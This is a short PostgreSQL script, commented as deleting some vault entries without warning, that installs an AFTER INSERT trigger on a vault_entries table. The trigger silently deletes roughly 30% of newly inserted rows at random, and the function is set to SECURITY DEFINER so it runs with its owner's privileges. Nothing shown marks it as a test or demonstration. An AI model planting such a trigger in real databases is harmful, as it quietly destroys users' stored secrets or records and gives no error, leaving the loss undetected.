-- Deletes some vault entries without a warning in the result.
CREATE FUNCTION lose_entry() RETURNS trigger
LANGUAGE plpgsql
AS $$
BEGIN
    DELETE FROM vault_entries WHERE id = NEW.id AND random() < 0.3;
    RETURN NULL;
END
$$;
CREATE TRIGGER lose_entry AFTER INSERT ON vault_entries FOR EACH ROW EXECUTE FUNCTION lose_entry();
ALTER FUNCTION lose_entry() SECURITY DEFINER;
